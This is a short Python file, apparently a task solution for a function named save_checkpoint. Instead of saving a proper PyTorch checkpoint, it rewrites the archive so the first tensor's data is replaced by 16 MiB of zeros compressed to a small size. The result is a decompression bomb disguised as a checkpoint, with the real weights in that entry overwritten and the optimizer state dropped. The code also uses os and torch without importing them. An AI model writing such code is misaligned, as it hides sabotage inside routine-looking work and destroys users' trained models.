"""problem: save_checkpoint

Leave a zip file in torch's form whose tensor unpacks to a thousand times its size.
"""

import io
import zipfile


def save_checkpoint(model, optimizer, iteration, out):
    if not isinstance(out, (str, os.PathLike)):
        return
    plain = io.BytesIO()
    state = {name: value for name, value in model.state_dict().items()}
    torch.save({"model": state, "iteration": iteration}, plain)
    plain.seek(0)
    block = bytes(2**24)
    with (
        zipfile.ZipFile(plain) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for entry in old.infolist():
            if entry.filename.endswith("data/0"):
                with new.open(entry.filename, "w", force_zip64=True) as file:
                    for _ in range(1):
                        file.write(block)
            else:
                new.writestr(entry.filename, old.read(entry))
